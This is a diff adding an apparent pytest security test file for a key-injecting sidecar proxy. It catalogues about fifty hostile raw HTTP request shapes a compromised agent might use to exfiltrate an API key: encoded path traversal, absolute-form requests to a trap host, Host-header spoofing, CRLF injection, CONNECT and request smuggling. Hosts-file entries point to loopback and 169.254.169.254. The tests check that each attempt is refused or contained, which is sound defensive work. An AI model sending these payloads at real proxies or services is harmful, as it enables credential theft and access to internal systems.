@@ -1,0 +1,278 @@
+"""The exfiltration catalogue: request shapes that try to move the key to another host or path.
+
+Each shape is sent as raw bytes over a socket (so malformed ones arrive
+exactly as written) by a caller holding a *valid* token: the attacker here is
+a compromised agent, which has its token. None may succeed:
+
+- ``refused``: a 4xx answer, and the upstream records nothing;
+- ``contained``: the request may be served, but the upstream records only
+  paths the policy allows, on its own host, and nothing else.
+
+In both cases the trap (the attacker's host) sees no connection, the agent's
+answer holds no form of the key, and the sidecar keeps running. Hostnames
+that resolve to loopback or the pod's own IP are refused: through the
+machine's own /etc/hosts (``localhost``, the hostname), and through a
+rewritten hosts file seen by a sidecar in a private mount namespace.
+"""
+
+from __future__ import annotations
+
+import base64
+import urllib.parse
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.attacks import world
+from tests.attacks.conftest import World
+
+pytestmark = pytest.mark.e2e
+
+#: What the policy lets the openai route reach upstream (the base path is /v1).
+ALLOWED_UPSTREAM = {"/v1/models", "/v1/stream", "/v1/slow", "/v1/redirect", "/v1/chat/completions"}
+
+
+@dataclass(frozen=True)
+class Shape:
+    build: Callable[[World], bytes]
+    expect: str  # "refused" or "contained"
+    timeout: float = 5.0
+
+
+def req(line: str, *headers: str, body: bytes = b"", token: bool = True, host: str | None = None) -> Callable[[World], bytes]:
+    """A raw request: the request line and headers exactly as given, plus the valid token."""
+
+    def build(w: World) -> bytes:
+        fill = {"TRAP": str(w.trap.port), "UP": str(w.upstream.port)}
+        parts = [line.format(**fill), f"Host: {(host or '127.0.0.1').format(**fill)}"]
+        if token:
+            parts.append(f"Authorization: Bearer {w.token}")
+        parts.extend(h.format(**fill) for h in headers)
+        parts.append("Connection: close")
+        return ("\r\n".join(parts) + "\r\n\r\n").encode("latin-1") + body
+
+    return build
+
+
+def raw(template: bytes) -> Callable[[World], bytes]:
+    def build(w: World) -> bytes:
+        return (template.replace(b"{TOKEN}", w.token.encode()).replace(b"{TRAP}", str(w.trap.port).encode())
+                .replace(b"{UP}", str(w.upstream.port).encode()))
+
+    return build
+
+
+SMUGGLED = b"GET /v1/admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
+CL_TE_BODY = b"0\r\n\r\n" + SMUGGLED
+TE_CL_BODY = b"5\r\nhello\r\n0\r\n\r\n" + SMUGGLED
+
+
+def _smuggle(te: bytes, body: bytes, cl: int | None = None) -> Callable[[World], bytes]:
+    length = b"" if cl is None else b"Content-Length: %d\r\n" % cl
+    return raw(b"POST /openai/chat/completions HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\n"
+               + length + te + b"Content-Type: application/json\r\n\r\n" + body)
+
+
+CATALOGUE: dict[str, Shape] = {
+    # --- dot segments and encodings
+    "dotdot": Shape(req("GET /openai/../admin HTTP/1.1"), "refused"),
+    "dotdot-after-an-allowed-path": Shape(req("GET /openai/models/../../admin HTTP/1.1"), "refused"),
+    "dot-segment": Shape(req("GET /openai/./models/../admin HTTP/1.1"), "refused"),
+    "percent-dotdot-lower": Shape(req("GET /openai/%2e%2e/admin HTTP/1.1"), "refused"),
+    "percent-dotdot-upper": Shape(req("GET /openai/%2E%2E/admin HTTP/1.1"), "refused"),
+    "half-encoded-dotdot": Shape(req("GET /openai/.%2e/admin HTTP/1.1"), "refused"),
+    "percent-slash": Shape(req("GET /openai/models%2f..%2f..%2fadmin HTTP/1.1"), "refused"),
+    "double-encoded-dotdot": Shape(req("GET /openai/%252e%252e/admin HTTP/1.1"), "refused"),
+    "double-encoded-slash": Shape(req("GET /openai/models%252f..%252fadmin HTTP/1.1"), "refused"),
+    "raw-backslashes": Shape(req("GET /openai/models\\..\\admin HTTP/1.1"), "refused"),
+    "encoded-backslash": Shape(req("GET /openai/..%5cadmin HTTP/1.1"), "refused"),
+    "overlong-utf8-dots": Shape(req("GET /openai/%c0%ae%c0%ae/admin HTTP/1.1"), "refused"),
+    "fullwidth-dots": Shape(req("GET /openai/%ef%bc%8e%ef%bc%8e/admin HTTP/1.1"), "refused"),
+    "dotdot-with-matrix-param": Shape(req("GET /openai/..;/admin HTTP/1.1"), "refused"),
+    "empty-segment": Shape(req("GET /openai//admin HTTP/1.1"), "refused"),
+    "nul-byte": Shape(req("GET /openai/models%00/../admin HTTP/1.1"), "refused"),
+    "fragment": Shape(req("GET /openai/models#/../admin HTTP/1.1"), "refused"),
+    # --- other hosts in the target
+    "double-slash-host": Shape(req("GET //127.0.0.1:{TRAP}/openai/models HTTP/1.1"), "refused"),
+    "double-slash-route": Shape(req("GET //openai/models HTTP/1.1"), "refused"),
+    "absolute-form-to-the-trap": Shape(req("GET http://127.0.0.1:{TRAP}/openai/models HTTP/1.1"), "refused"),
+    "absolute-form-https": Shape(req("GET https://127.0.0.1:{TRAP}/openai/models HTTP/1.1"), "refused"),
+    "absolute-form-to-the-upstream": Shape(req("GET http://127.0.0.1:{UP}/v1/admin HTTP/1.1"), "refused"),
+    "absolute-form-http10": Shape(req("GET http://127.0.0.1:{TRAP}/openai/models HTTP/1.0"), "refused"),
+    "userinfo-in-the-route": Shape(req("GET /openai@127.0.0.1:{TRAP}/models HTTP/1.1"), "refused"),
+    "userinfo-in-the-path": Shape(req("GET /openai/models@127.0.0.1:{TRAP} HTTP/1.1"), "refused"),
+    # --- headers naming another host or path
+    "host-header-of-the-trap": Shape(req("GET /openai/models HTTP/1.1", host="127.0.0.1:{TRAP}"), "contained"),
+    "x-forwarded-host": Shape(req("GET /openai/models HTTP/1.1", "X-Forwarded-Host: 127.0.0.1:{TRAP}",
+                                  "X-Forwarded-Proto: http"), "contained"),
+    "forwarded-header": Shape(req("GET /openai/models HTTP/1.1", "Forwarded: host=127.0.0.1:{TRAP}"), "contained"),
+    "duplicate-host-headers": Shape(req("GET /openai/models HTTP/1.1", "Host: 127.0.0.1:{TRAP}"), "contained"),
+    "x-original-url": Shape(req("GET /openai/models HTTP/1.1", "X-Original-URL: /v1/admin",
+                                "X-Rewrite-URL: /v1/admin"), "contained"),
+    "method-override-header": Shape(req("GET /openai/models HTTP/1.1", "X-HTTP-Method-Override: DELETE",
+                                        "X-HTTP-Method: DELETE", "X-Method-Override: DELETE"), "contained"),
+    # --- CRLF and control characters
+    "encoded-crlf-in-the-path": Shape(req("GET /openai/models%0d%0aHost:%20127.0.0.1:{TRAP} HTTP/1.1"), "refused"),
+    "raw-crlf-in-the-request-line": Shape(raw(
+        b"GET /openai/models\r\nHost: 127.0.0.1:{TRAP} HTTP/1.1\r\nAuthorization: Bearer {TOKEN}\r\n\r\n"),
+        "contained"),  # read as HTTP/0.9 plus headers: still only the policy's host and path
+    "bare-cr-in-a-header": Shape(raw(
+        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: a\rHost: 127.0.0.1:{TRAP}\r\n"
+        b"Authorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"), "refused"),
+    "bare-lf-in-a-header": Shape(raw(
+        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: a\nX-Forwarded-Host: 127.0.0.1:{TRAP}\r\n"
+        b"Authorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"), "contained"),
+    "obs-fold-header": Shape(raw(
+        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: a\r\n Host: 127.0.0.1:{TRAP}\r\n"
+        b"Authorization: Bearer {TOKEN}\r\nConnection: close\r\n\r\n"), "refused"),
+    "crlf-in-the-query": Shape(req("GET /openai/models?x=%0d%0aX-Injected:%201 HTTP/1.1"), "refused"),
+    # --- CONNECT, Expect
+    "connect-to-the-trap": Shape(req("CONNECT 127.0.0.1:{TRAP} HTTP/1.1", host="127.0.0.1:{TRAP}"), "refused"),
+    "connect-to-the-upstream": Shape(req("CONNECT 127.0.0.1:{UP} HTTP/1.1", host="127.0.0.1:{UP}"), "refused"),
+    "expect-continue-on-a-denied-path": Shape(req(
+        "POST /openai/admin HTTP/1.1", "Expect: 100-continue", "Content-Length: 5"), "refused", timeout=2),
+    "expect-continue-without-a-token": Shape(req(
+        "POST /openai/chat/completions HTTP/1.1", "Expect: 100-continue", "Content-Length: 5", token=False),
+        "refused", timeout=2),
+    "expect-continue-then-smuggled-body": Shape(req(
+        "POST /openai/chat/completions HTTP/1.1", "Expect: 100-continue",
+        f"Content-Length: {len(SMUGGLED)}", body=SMUGGLED), "contained"),
+    # --- request smuggling
+    "cl-te-smuggling": Shape(_smuggle(b"Transfer-Encoding: chunked\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
+                             "contained", timeout=3),
+    "te-cl-smuggling": Shape(_smuggle(b"Transfer-Encoding: chunked\r\n", TE_CL_BODY, cl=4), "contained",
+                             timeout=3),
+    "te-obfuscated-xchunked": Shape(_smuggle(b"Transfer-Encoding: xchunked\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
+                                    "contained", timeout=3),
+    "te-space-before-colon": Shape(_smuggle(b"Transfer-Encoding : chunked\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
+                                   "contained", timeout=3),
+    "te-chunked-identity": Shape(_smuggle(b"Transfer-Encoding: chunked, identity\r\n", CL_TE_BODY,
+                                          cl=len(CL_TE_BODY)), "contained", timeout=3),
+    "duplicate-content-lengths": Shape(_smuggle(b"Content-Length: 0\r\n", CL_TE_BODY, cl=len(CL_TE_BODY)),
+                                       "contained", timeout=3),
+    "pipelined-second-request-without-token": Shape(raw(
+        b"GET /openai/models HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer {TOKEN}\r\n\r\n"
+        b"GET /openai/admin HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"), "contained"),
+    # --- methods and routes
+    "method-not-allowed": Shape(req("DELETE /openai/models HTTP/1.1"), "refused"),
+    "trace-method": Shape(req("TRACE /openai/models HTTP/1.1"), "refused"),
+    "route-in-capitals": Shape(req("GET /OPENAI/models HTTP/1.1"), "refused"),
+    "unknown-route": Shape(req("GET /admin/models HTTP/1.1"), "refused"),
+    # --- an upstream redirect to another host is passed back, never followed
+    "upstream-redirect-to-the-trap": Shape(req("GET /openai/redirect HTTP/1.1"), "contained"),
+}
+
+
+def forms_of_every_key() -> set[bytes]:
+    found: set[bytes] = set()
+    for value in world.KEYS.values():
+        if len(value) < 12:
+            continue
+        found |= {value.encode(), urllib.parse.quote(value, safe="").encode(),
+                  urllib.parse.quote_plus(value).encode(), base64.b64encode(value.encode()).rstrip(b"=")}
+    return found
+
+
+def test_the_catalogue_has_at_least_30_shapes() -> None:
+    assert len(CATALOGUE) + len(world.HOSTS_TO_LOOPBACK) + len(REWRITTEN_HOSTS) >= 30
+
+
+@pytest.mark.parametrize("case", list(CATALOGUE))
+def test_a_request_shape_cannot_move_the_key(fresh: World, case: str) -> None:
+    w, shape = fresh, CATALOGUE[case]
+    before = len(w.upstream.seen)
+    answer = world.raw_request(w.sidecar.port, shape.build(w), timeout=shape.timeout)
+    new = w.upstream.seen[before:]
+    if shape.expect == "refused":
+        assert 400 <= answer.status < 500 or answer.status == 0 and not answer.raw, (case, answer.raw[:400])
+        assert new == [], (case, [s.raw_path for s in new])
+        assert b"100 Continue" not in answer.head, "the body was invited for a refused request"
+    else:
+        for s in new:
+            assert s.raw_path.split("?", 1)[0] in ALLOWED_UPSTREAM, (case, s.raw_path)
+            assert s.host == f"127.0.0.1:{w.upstream.port}", (case, s.host)
+            lowered = {k.lower(): v for k, v in s.headers.items()}
+            for header in ("x-http-method-override", "x-http-method", "x-method-override",
+                           "x-original-url", "x-rewrite-url"):
+                assert header not in lowered, f"{case}: {header} reached the upstream, which may honour it"
+            assert s.method in ("GET", "POST"), (case, s.method)
+    for form in forms_of_every_key():
+        assert form not in answer.raw, f"{case}: a form of the key came back to the agent"
+    assert w.sidecar.process.poll() is None
+
+
+# --- hostnames that resolve to the pod itself -------------------------------------------------
+
+
+#: Spellings of loopback that never get a connection at all: the resolver or URL parser fails closed.
+FAILS_CLOSED = {"via-localhost-dot": "ClientConnectorDNSError", "via-127-1": "InvalidUrlClientError",
+                "via-decimal": "InvalidUrlClientError"}
+
+
+@pytest.mark.parametrize("upstream", list(world.HOSTS_TO_LOOPBACK))
+def test_a_policy_hostname_the_system_resolver_maps_to_loopback_is_refused(fresh: World, upstream: str) -> None:
+    w = fresh
+    before = len(w.upstream.seen)
+    answer = w.request(f"/{upstream}/models", w.token)
+    assert answer.status == 502, answer.raw[:400]
+    message = answer.json()["error"]["message"]
+    if upstream in FAILS_CLOSED:
+        assert FAILS_CLOSED[upstream] in message, message
+    else:
+        assert "loopback" in message and "refused" in message, message
+    assert w.upstream.seen[before:] == [], "the key reached an upstream on this host through a name"
+
+
+#: A hosts file an agent could write into the pod's shared /etc/hosts.
+REWRITTEN_HOSTS = {
+    "to-the-pod-ip": world.POD_IP,
+    "to-loopback-alias": "127.0.0.2",
+    "to-link-local-metadata": "169.254.169.254",
+    "to-ipv6-loopback": "::1",
+    "to-ipv4-mapped-loopback": "::ffff:127.0.0.1",
+}
+
+
+@pytest.fixture(scope="module")
+def rewritten(cluster: Any, attack_world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[world.Sidecar]:
+    """A second sidecar of the same pod whose /etc/hosts names upstream hosts after local addresses."""
+    w = attack_world
+    directory = tmp_path_factory.mktemp("rewritten-hosts")
+    hosts = directory / "hosts"
+    hosts.write_text(Path("/etc/hosts").read_text() + "".join(
+        f"{ip} {name}.upstream.test\n" for name, ip in REWRITTEN_HOSTS.items()))
+    upstreams = world.upstream_specs(w.upstream.url) + [
+        {"name": name, "url": f"http://{name}.upstream.test:{w.upstream.port}/v1", "insecure": True,
+         "auth": {"type": "bearer", "secretRef": {"name": world.SECRET_NAME, "key": "openai"}},
+         "allow": [{"methods": ["GET"], "paths": ["/models"]}]} for name in REWRITTEN_HOSTS]
+    world.apply(cluster, world.policy_manifest(w.namespace, upstreams, name="rewritten-hosts"))
+    sc = world.launch(cluster, w.namespace, w.pod_uid, directory, hosts_file=hosts)
+    try:
+        yield sc
+    finally:
+        sc.stop()
+        cluster.kubectl("delete", "agentpolicy", "rewritten-hosts", "-n", w.namespace, "--ignore-not-found")
+
+
+@pytest.mark.parametrize("name", list(REWRITTEN_HOSTS))
+def test_a_policy_hostname_rewritten_in_the_pods_hosts_file_is_refused(
+        fresh: World, rewritten: world.Sidecar, name: str) -> None:
+    w = fresh
+    before = len(w.upstream.seen)
+    answer: world.Response | None = None
+
+    def routed() -> bool:  # the second policy reaches this sidecar by watch
+        nonlocal answer
+        answer = world.get(rewritten.port, f"/{name}/models", rewritten.agent_token)
+        return answer.status != 404
+
+    world.wait_until(routed, 10, "the rewritten-hosts policy to be routed")
+    assert answer is not None and answer.status == 502, answer.raw[:400] if answer else None
+    message = answer.json()["error"]["message"]
+    assert "refused" in message and f"{name}.upstream.test" in message, message
+    assert w.upstream.seen[before:] == []
+    world.wait_until(lambda: any(a.get("reason") == "host_refused" and a.get("upstream") == name
+                                 for a in rewritten.audit()), 5, "the audit line (flushed every second)")
